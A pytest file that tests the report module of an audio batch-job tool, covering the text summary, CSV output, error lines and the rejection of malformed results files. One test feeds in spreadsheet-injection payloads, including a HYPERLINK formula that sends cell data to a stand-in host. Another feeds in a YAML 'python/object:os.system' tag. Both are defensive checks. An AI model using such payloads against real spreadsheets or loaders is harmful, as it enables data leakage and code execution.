"""`batchpod.report`: real results files, from real runs against the sandbox, read back and
rendered as a text summary and as CSV."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import results_of, run_cli, write_manifest

from batchpod.errors import ConfigError
from batchpod.report import CSV_COLUMNS, load_results, render_csv, render_text
from batchpod.sandbox import SandboxSettings, SandboxThread

pytestmark = pytest.mark.usefixtures("clean_env")

# On the Basic plan `producer` is refused (403); copy.wav holds song.wav's bytes, so it is the
# same job and is skipped as its duplicate; d's URL carries a comma and quotes into the CSV.
MIXED = """\
  - {url: 'https://cdn.example.com/a.mp3', mode: producer}
  - {url: 'https://cdn.example.com/b.mp3?duration=30', mode: two, duration: 30}
  - {file: song.wav, mode: four}
  - {file: copy.wav, mode: four}
  - {url: 'https://cdn.example.com/d,"x".mp3?duration=120', mode: single, stem: drums, name: d}
"""
REFUSED = (
    "a: failed: PermissionDenied (HTTP 403): this AudioPod plan may not run this job "
    "(HTTP 403: Mode 'producer' requires the Creator plan or higher; this API key's plan is "
    "Basic.); upgrade the plan or use another mode"
)
HOSTILE = "refused, \"twice\", or 'not' at all\nsecond line, with\r\na CRLF and a lone \r CR"


def _mixed_run(folder: Path, *args: str) -> tuple[Path, dict[str, Any]]:
    """MIXED run on a Basic-plan sandbox: (its manifest, the sandbox's stats)."""
    path = write_manifest(folder, MIXED, concurrency=2)
    shutil.copy(folder / "song.wav", folder / "copy.wav")
    with SandboxThread(SandboxSettings(processing_s=(0.05, 0.2), plan="basic")) as sb:
        code, _, err = run_cli(sb, path, *args)
        stats = sb.stats()
    assert code == 1, err
    return path, stats


def _seconds(job: dict[str, Any]) -> int:
    start, end = (datetime.fromisoformat(job[k]) for k in ("submitted_at", "completed_at"))
    return int((end - start).total_seconds())


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_text_summary_of_a_real_run(tmp_path: Path) -> None:
    """The summary gives the run, counts by status, spend, wallet, requests, the slowest jobs
    and the refused job's error on one line, exactly."""
    path, stats = _mixed_run(tmp_path)
    doc = load_results(path.with_name("jobs.results.yaml"))
    assert doc == results_of(path)
    run, jobs = doc["run"], doc["jobs"]
    assert [j["status"] for j in jobs] == [
        "failed",
        "succeeded",
        "succeeded",
        "skipped",
        "succeeded",
    ]
    charged = sum(e["cents"] for e in stats["wallet_events"] if e["kind"] == "charge")
    assert charged == 26  # b: 30 s (5 c), song: 1 s (1 c), d: 120 s (20 c)
    elapsed = _seconds({"submitted_at": run["started_at"], "completed_at": run["finished_at"]})
    done = [j for j in jobs if j["status"] == "succeeded"]
    slowest = sorted(done, key=lambda j: -_seconds(j))  # stable: ties stay in manifest order
    requests = run["requests"]
    assert requests["retries"] == {} and requests["throttled"] == 0
    assert render_text(doc) == "".join(
        line + "\n"
        for line in [
            f"manifest: {path}",
            f"started: {run['started_at']}",
            f"finished: {run['finished_at']} ({elapsed} s)",
            "exit code: 1",
            "jobs: 5 (3 succeeded, 1 failed, 1 skipped)",
            # Estimates: a and d 100 c each (no duration: 10 minutes assumed), b 5 c, song 1 c.
            "spent: $0.26 (estimated $2.06)",
            "balance: $100.00 before, $99.74 after",
            f"api requests: {requests['api']} ({requests['per_job']} per job, 0 throttled)",
            "slowest jobs:",
            *(f"  {j['name']}: {_seconds(j)} s" for j in slowest),
            "failed, expired or unknown jobs:",
            f"  {REFUSED}",
        ]
    )
    top = slowest[0]
    assert f"slowest jobs:\n  {top['name']}: {_seconds(top)} s\nfailed, " in render_text(
        doc, slowest=1
    )
    assert "slowest jobs:" not in render_text(doc, slowest=0)
    with pytest.raises(ValueError, match="slowest"):
        render_text(doc, slowest=-1)


def test_csv_rows_match_the_results_entries(tmp_path: Path) -> None:
    """One CSV row per job, in manifest order, each field equal to the results entry's value
    (null as empty), the URL with a comma and quotes intact."""
    path, _ = _mixed_run(tmp_path)
    doc = load_results(path.with_name("jobs.results.yaml"))
    text = render_csv(doc)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    rows = list(reader)
    assert len(rows) == len(doc["jobs"]) == 5
    for row, job in zip(rows, doc["jobs"], strict=True):
        error = job.get("error") or {}
        expected = {
            "name": job["name"],
            "status": job["status"],
            "mode": job["mode"],
            "stem": job.get("stem"),
            "source": job["source"].get("url") or job["source"].get("file"),
            "remote_id": job["remote_id"],
            "submitted_at": job["submitted_at"],
            "completed_at": job["completed_at"],
            "finished_at": job["finished_at"],
            "seconds": _seconds(job) if job["completed_at"] else None,
            "attempts": job["attempts"],
            "estimated_cents": job["estimated_cents"],
            "cost_cents": job["cost_cents"],
            "cost_usd": job["cost_usd"],
            "error_type": error.get("type"),
            "http_status": error.get("http_status"),
            "error_message": error.get("message"),
            "files": len(job.get("files", [])),
            "reason": job.get("reason"),
            "duplicate_of": job.get("duplicate_of"),
        }
        assert row == {k: "" if v is None else str(v) for k, v in expected.items()}
    assert rows[4]["source"] == 'https://cdn.example.com/d,"x".mp3?duration=120'
    assert rows[4]["stem"] == "drums" and rows[4]["files"] == "2"
    assert rows[0]["error_type"] == "PermissionDenied" and rows[0]["http_status"] == "403"
    assert rows[3]["status"] == "skipped" and rows[3]["remote_id"] == ""


def test_hostile_error_message_survives_csv(tmp_path: Path) -> None:
    """An error message with commas, both quotes, LF, CRLF and a lone CR (written into a real
    results file) reads back from the CSV unchanged, and stays one escaped line in the text."""
    path, _ = _mixed_run(tmp_path)
    results = path.with_name("jobs.results.yaml")
    data = yaml.safe_load(results.read_text(encoding="utf-8"))
    data["jobs"][0]["error"]["message"] = HOSTILE
    results.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    doc = load_results(results)
    assert doc["jobs"][0]["error"]["message"] == HOSTILE
    rows = _csv_rows(render_csv(doc))
    assert len(rows) == 5
    assert rows[0]["error_message"] == HOSTILE
    assert [r["name"] for r in rows] == ["a", "b", "song", "copy", "d"]
    text = render_text(doc)
    assert (
        "  a: failed: PermissionDenied (HTTP 403): refused, \"twice\", or 'not' at all "
        "second line, with a CRLF and a lone CR\n"
    ) in text
    assert "\r" not in text


def test_figures_the_file_lacks_are_unknown(tmp_path: Path) -> None:
    """A results file as a crash leaves it (no finish, exit code, balance after or request
    counts) still renders: those figures read 'unknown' and the request line is left out."""
    path, _ = _mixed_run(tmp_path)
    doc = load_results(path.with_name("jobs.results.yaml"))
    run = doc["run"]
    for key in ("finished_at", "exit_code", "balance_after_cents", "spent_cents"):
        run[key] = None
    del run["requests"]
    text = render_text(doc)
    assert f"started: {run['started_at']}\nfinished: unknown\nexit code: unknown\n" in text
    assert "\nspent: none recorded (estimated $2.06)\n" in text
    assert "\nbalance: $100.00 before, unknown after\n" in text
    assert "api requests" not in text


def test_json_results_load_like_yaml(tmp_path: Path) -> None:
    """A run's JSON results (--format json) load to exactly the file's JSON data."""
    path, _ = _mixed_run(tmp_path, "--format", "json")
    results = path.with_name("jobs.results.json")
    doc = load_results(results)
    assert doc == json.loads(results.read_text(encoding="utf-8"))
    assert "jobs: 5 (3 succeeded, 1 failed, 1 skipped)\n" in render_text(doc)
    assert f"  {REFUSED}\n" in render_text(doc)
    assert len(_csv_rows(render_csv(doc))) == 5


def test_stopped_run_says_why(tmp_path: Path) -> None:
    """A run the wallet stopped (402): the summary says why, and counts the skipped jobs."""
    body = "".join(
        f"  - {{url: 'https://cdn.example.com/{i}.mp3?duration=300', mode: two}}\n"
        for i in range(3)
    )
    path = write_manifest(tmp_path, body, concurrency=1)
    with SandboxThread(SandboxSettings(processing_s=0.05, balance_cents=60)) as sb:
        code, _, err = run_cli(sb, path)
    assert code == 3, err
    doc = load_results(path.with_name("jobs.results.yaml"))
    stopped = doc["run"]["stopped"]
    assert "wallet cannot pay" in stopped
    text = render_text(doc)
    # The second job was estimated (10 minutes assumed) before AudioPod's 402; not the third.
    assert (
        f"exit code: 3\nstopped: {stopped}\njobs: 3 (1 succeeded, 2 skipped)\n"
        "spent: $0.50 (estimated $2.00)\nbalance: $0.60 before, $0.10 after\n"
    ) in text
    assert "failed, expired or unknown jobs:" not in text  # skipped is not trouble


def test_expired_and_failed_jobs_each_get_a_line(tmp_path: Path) -> None:
    """A refused job and one past --job-timeout are listed in manifest order, each with its
    error; spend is 'none recorded' when no job was charged."""
    path = write_manifest(
        tmp_path,
        "  - {url: 'https://cdn.example.com/a.mp3', mode: producer}\n"
        "  - {url: 'https://cdn.example.com/slow.mp3?duration=60', mode: two, duration: 60}\n",
    )
    with SandboxThread(SandboxSettings(processing_s=30, plan="basic")) as sb:
        code, _, err = run_cli(sb, path, "--job-timeout", "0.5")
    assert code == 1, err
    doc = load_results(path.with_name("jobs.results.yaml"))
    slow = doc["jobs"][1]
    assert slow["status"] == "expired"
    text = render_text(doc)
    assert text.endswith(
        "failed, expired or unknown jobs:\n"
        f"  {REFUSED}\n"
        f"  slow: expired: JobTimeout: {slow['error']['message']}\n"
    )
    assert "jobs: 2 (1 failed, 1 expired)\n" in text
    assert "spent: none recorded (estimated $1.10)\n" in text
    assert "slowest jobs:" not in text  # neither completed
    row = _csv_rows(render_csv(doc))[1]
    assert row["submitted_at"] and row["completed_at"] == "" and row["seconds"] == ""


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("name", "data", "says"),
    [
        (
            "jobs.yaml",
            b"version: 1\njobs: []\n",
            "it looks like a jobs manifest; its results are in",
        ),
        ("list.yaml", b"- results_version: 1\n", "it has no results_version"),
        ("empty.yaml", b"", "it has no results_version"),
        ("bad.yaml", b"run: [unclosed\n", "not valid YAML (line 2, column 1)"),
        ("bad.json", b'{"results_version": 1,', "not valid JSON (line 1, column 23)"),
        ("latin.yaml", "results_version: 1 # café".encode("latin-1"), "it is not UTF-8 text"),
        ("v2.yaml", b"results_version: 2\nrun: {}\njobs: []\n", "results_version 2 is not"),
        ("norun.yaml", b"results_version: 1\njobs: []\n", "'run' is missing"),
        ("nojobs.yaml", b"results_version: 1\nrun: {}\n", "'jobs' is missing"),
        (
            "status.yaml",
            b"results_version: 1\nrun: {}\njobs:\n- {name: a, status: done}\n",
            "jobs[0] has no name or no known status",
        ),
        ("tag.yaml", b"!!python/object:os.system {}\n", "not valid YAML"),
    ],
)
def test_not_a_results_file_is_one_clear_line(
    tmp_path: Path, name: str, data: bytes, says: str
) -> None:
    """Anything but a results document is refused with a ConfigError: one line, naming the
    file and what is wrong with it."""
    path = _write(tmp_path, name, data)
    with pytest.raises(ConfigError) as caught:
        load_results(path)
    message = str(caught.value)
    assert "\n" not in message
    assert str(path) in message and says in message


def test_missing_or_unreadable_file_is_one_clear_line(tmp_path: Path) -> None:
    """A results path that does not exist, or is a folder, is a ConfigError naming it."""
    for path, says in [(tmp_path / "nope.yaml", "No such file"), (tmp_path, "Is a directory")]:
        with pytest.raises(ConfigError, match=f"^cannot read the results file {path}: {says}"):
            load_results(path)


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    tmp_path: Path,
) -> None:
    """Names, errors and metadata beginning with =, +, -, @, a tab or a CR get a "'" in
    front (OWASP's advice for CSV injection); numbers and other text are left as they are;
    reason and duplicate_of are columns of their own."""
    path, _ = _mixed_run(tmp_path)
    results = path.with_name("jobs.results.yaml")
    data = yaml.safe_load(results.read_text(encoding="utf-8"))
    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx"]
    for job, text in zip(data["jobs"], hostile, strict=True):
        job["name"] = text
        job["error"] = {"type": "X", "message": text, "http_status": None}
        job["meta"] = {"title": text, "plain": "Night Drive"}
    results.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    rows = _csv_rows(render_csv(load_results(results)))
    for row, text in zip(rows, hostile, strict=True):
        assert row["name"] == row["error_message"] == row["meta.title"] == "'" + text
        assert row["meta.plain"] == "Night Drive"
        assert not row["estimated_cents"].startswith("'")
    assert rows[3]["reason"] and rows[3]["status"] == "skipped"
    assert rows[3]["duplicate_of"] == "song"
